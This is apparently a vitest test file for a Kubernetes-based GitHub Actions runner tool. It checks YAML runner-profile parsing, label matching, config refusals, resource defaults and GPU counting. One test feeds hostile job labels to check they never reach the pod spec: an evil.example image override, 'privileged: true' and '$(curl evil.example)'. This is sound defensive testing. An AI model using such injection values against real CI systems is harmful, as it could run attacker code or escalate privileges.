import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../shared/config/load-config.js';
import {
  DEFAULT_DIND_ROOTLESS_IMAGE,
  DEFAULT_RUNNER_IMAGE,
  RUNNER_MODES,
} from '../shared/config/runner-modes.js';
import { parseProfiles } from '../shared/profiles/parse-profiles.js';
import { DEFAULT_RESOURCES, selectProfile } from '../shared/profiles/runner-profile.js';
import { buildRunnerJob } from '../shared/records/build-runner-job.js';

const example = readFileSync(new URL('../examples/runner-profiles.yaml', import.meta.url), 'utf8');
const defaults = { mode: 'dind-rootless' as const, image: undefined, dindImage: undefined };

function problemsOf(text: string): string {
  try {
    parseProfiles(text, defaults);
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('expected the profiles to be refused');
}

describe('the profiles file', () => {
  const profiles = parseProfiles(example, defaults);

  it('reads every field of the example', () => {
    expect(profiles.map((profile) => [profile.name, profile.mode])).toEqual([
      ['gpu', 'userns'],
      ['docker', 'dind-rootless'],
      ['big', 'standard'],
      ['default', 'standard'],
    ]);
    expect(profiles[0]).toMatchObject({
      matchers: [['gpu']],
      resources: {
        requests: { cpu: '2', memory: '8Gi', 'nvidia.com/gpu': '1' },
        limits: { 'nvidia.com/gpu': '1' },
      },
      nodeSelector: { accelerator: 'nvidia' },
      tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }],
      runtimeClassName: 'nvidia',
      activeDeadlineSeconds: 14400,
      maxRunners: 2,
    });
    expect(profiles[1]).toMatchObject({
      image: DEFAULT_RUNNER_IMAGE,
      followsReleases: true,
      dindImage: DEFAULT_DIND_ROOTLESS_IMAGE,
      resources: {
        requests: { cpu: '1', memory: '2Gi', 'ephemeral-storage': '5Gi' },
        limits: { cpu: '4', memory: '8Gi', 'ephemeral-storage': '40Gi' },
      },
    });
    expect(profiles[2]).toMatchObject({
      image: DEFAULT_RUNNER_IMAGE,
      env: [{ name: 'GRADLE_OPTS', value: '-Xmx8g' }],
      volumes: [{ name: 'gradle', mountPath: '/home/runner/.gradle', claimName: 'gradle-cache' }],
    });
    // A profile that names no resources gets limits all the same.
    expect(profiles[3]?.resources.limits).toEqual({ cpu: '4', memory: '8Gi', 'ephemeral-storage': '20Gi' });
    expect(profiles[3]?.activeDeadlineSeconds).toBe(21600);
  });

  it.each([
    [['self-hosted', 'gpu', 'large', 'linux'], 'gpu'],
    [['self-hosted', 'docker', 'linux'], 'docker'],
    [['self-hosted', 'Large', 'Linux'], 'big'],
    [['self-hosted', 'large'], 'default'],
    [['self-hosted'], 'default'],
  ])('gives %j the first matching profile: %s', (labels, name) => {
    expect(selectProfile(profiles, labels)?.name).toBe(name);
  });

  it('serves no job without self-hosted, whatever the profiles', () => {
    expect(selectProfile(profiles, ['gpu'])).toBeUndefined();
  });

  it.each([
    [
      'profiles:\n  - name: a\n    imagePullPolicy: Always\n',
      'profile "a": imagePullPolicy is not a known field',
    ],
    [
      'profiles:\n  - name: a\n    mode: rootful\n',
      'profile "a": mode must be one of standard, userns, dind, dind-rootless',
    ],
    [
      'profiles:\n  - name: a\n    resources: { limits: { cpu: [1] } }\n',
      'profile "a": resources.limits must map resource names to quantities',
    ],
    [
      'profiles:\n  - name: a\n    resources: { maximum: {} }\n',
      'profile "a": resources.maximum is not a known field',
    ],
    [
      'profiles:\n  - name: a\n    tolerations: [{ key: x, when: now }]\n',
      'profile "a": tolerations[0].when is not a known field',
    ],
    [
      'profiles:\n  - name: a\n    env: { ACTIONS_RUNNER_INPUT_JITCONFIG: x }\n',
      'profile "a": env.ACTIONS_RUNNER_INPUT_JITCONFIG is set by the function itself',
    ],
    [
      'profiles:\n  - name: a\n    volumes: [{ name: c, mountPath: relative }]\n',
      'profile "a": volumes[0].mountPath must be an absolute path',
    ],
    ['profiles:\n  - name: a\n  - name: a\n', 'profile "a": name is used twice'],
    ['profiles:\n  - name: Not_Valid\n', 'name must be a lowercase DNS label'],
    [
      'profiles:\n  - name: a\n    match: "gpu,,x"\n',
      'profile "a": match the matcher "gpu,,x" has an empty label',
    ],
    [
      'profiles:\n  - name: a\n    maxRunners: 0\n',
      'profile "a": maxRunners must be a whole number of at least 1',
    ],
    ['profiles: []\n', '"profiles" is empty'],
    ['kinds: []\n', 'must be a mapping with a "profiles" list'],
    ['profiles: [\n', 'is not valid YAML'],
  ])('refuses %j naming the profile and field', (text, message) => {
    expect(problemsOf(text)).toContain(message);
  });

  // Issue #18 item 8: a profile that set `resources` lost the default ephemeral-storage request and limit.
  it('keeps the ephemeral-storage defaults when a profile sizes only CPU and memory', () => {
    const [profile] = parseProfiles(
      'profiles:\n  - name: a\n    resources:\n      requests: { cpu: "1", memory: 2Gi }\n      limits: { cpu: "2", memory: 4Gi }\n',
      defaults,
    );
    expect(profile?.resources).toEqual({
      requests: { cpu: '1', memory: '2Gi', 'ephemeral-storage': '1Gi' },
      limits: { cpu: '2', memory: '4Gi', 'ephemeral-storage': '20Gi' },
    });
  });

  it('takes the ephemeral storage a profile names as it is', () => {
    const [profile] = parseProfiles(
      'profiles:\n  - name: a\n    resources:\n      limits: { memory: 4Gi, ephemeral-storage: 500Mi }\n',
      defaults,
    );
    expect(profile?.resources).toEqual({
      requests: { cpu: '500m', memory: '1Gi' },
      limits: { memory: '4Gi', 'ephemeral-storage': '500Mi' },
    });
  });

  it('reports every problem at once', () => {
    const message = problemsOf('profiles:\n  - name: a\n    mode: x\n    colour: red\n');
    expect(message).toContain('profile "a": colour is not a known field');
    expect(message).toContain('profile "a": mode must be one of');
  });

  it('is read through the configuration, and not together with LABEL_MATCHERS', () => {
    const env = { WEBHOOK_SECRET: 's', GITHUB_TOKEN: 't', RUNNER_PROFILES: example };
    expect(loadConfig(env).profiles.map((profile) => profile.name)).toEqual([
      'gpu',
      'docker',
      'big',
      'default',
    ]);
    expect(() => loadConfig({ ...env, LABEL_MATCHERS: 'gpu' })).toThrow(
      /set LABEL_MATCHERS or a profiles file/,
    );
  });
});

describe('a profile on the pod', () => {
  const [gpu, , big] = parseProfiles(example, defaults);
  const jobWith = (profile: NonNullable<typeof gpu>, jobLabels: string[] = ['self-hosted', 'gpu']) =>
    buildRunnerJob({
      profile,
      secretName: 'runner-1',
      namespace: 'ci',
      ttlSecondsAfterFinished: 300,
      owner: 'octo-org',
      repo: 'app',
      jobId: 1,
      runId: 2,
      runAttempt: 1,
      deliveryId: 'd',
      jobLabels,
      suspend: false,
    });

  it.each(RUNNER_MODES)('places and sizes the %s pod as the gpu profile says (snapshot)', (mode) => {
    const job = jobWith({ ...(gpu as NonNullable<typeof gpu>), mode });
    expect(job).toMatchSnapshot();
    const pod = job.spec?.template.spec;
    // The profile's own selector, kept, on a linux node (the images' OS).
    expect(pod?.nodeSelector).toEqual({ 'kubernetes.io/os': 'linux', accelerator: 'nvidia' });
    expect(pod?.runtimeClassName).toBe('nvidia');
    expect(job.spec?.activeDeadlineSeconds).toBe(14400);
    const runner = pod?.containers.find((container) => container.name === 'runner');
    expect(runner?.resources?.limits?.['nvidia.com/gpu']).toBe('1');
  });

  // Issue #18 item 8: the daemon sidecar copied the runner's resources, so a pod asking for 1 GPU asked for 2.
  it.each(['dind', 'dind-rootless'] as const)('asks for the GPU once in %s mode, on the runner', (mode) => {
    const pod = jobWith({ ...(gpu as NonNullable<typeof gpu>), mode }).spec?.template.spec;
    const all = [...(pod?.initContainers ?? []), ...(pod?.containers ?? [])];
    const total = (kind: 'requests' | 'limits') =>
      all.reduce((sum, container) => sum + Number(container.resources?.[kind]?.['nvidia.com/gpu'] ?? 0), 0);
    expect(total('requests')).toBe(1);
    expect(total('limits')).toBe(1);
    const daemon = pod?.initContainers?.find((container) => container.name === 'dind');
    expect(daemon?.resources?.requests?.cpu).not.toBe('2');
  });

  it.each(['dind', 'dind-rootless'] as const)(
    'bounds the Docker data volume of %s by the profile',
    (mode) => {
      const sized = (resources: NonNullable<typeof gpu>['resources']) =>
        jobWith({ ...(big as NonNullable<typeof big>), mode, resources }).spec?.template.spec?.volumes?.find(
          (volume) => volume.name === 'docker-data',
        );
      expect(sized(DEFAULT_RESOURCES)?.emptyDir?.sizeLimit).toBe('20Gi');
      expect(
        sized({ requests: { 'ephemeral-storage': '5Gi' }, limits: { 'ephemeral-storage': '50Gi' } })?.emptyDir
          ?.sizeLimit,
      ).toBe('50Gi');
    },
  );

  it('mounts cache volumes and adds env to the runner only', () => {
    const pod = jobWith(big as NonNullable<typeof big>).spec?.template.spec;
    expect(pod?.volumes).toContainEqual({
      name: 'cache-gradle',
      persistentVolumeClaim: { claimName: 'gradle-cache' },
    });
    expect(pod?.containers[0]?.volumeMounts).toContainEqual({
      name: 'cache-gradle',
      mountPath: '/home/runner/.gradle',
    });
    expect(pod?.containers[0]?.env).toContainEqual({ name: 'GRADLE_OPTS', value: '-Xmx8g' });
  });

  it('takes nothing from the job labels into the pod spec', () => {
    const hostile = [
      'self-hosted',
      'gpu',
      'image=evil.example/x:latest',
      'privileged: true',
      '$(curl evil.example)',
    ];
    const pod = JSON.stringify(jobWith(gpu as NonNullable<typeof gpu>, hostile).spec?.template);
    for (const label of hostile.slice(2)) expect(pod).not.toContain(label);
    expect(pod).not.toContain('evil.example');
  });
});
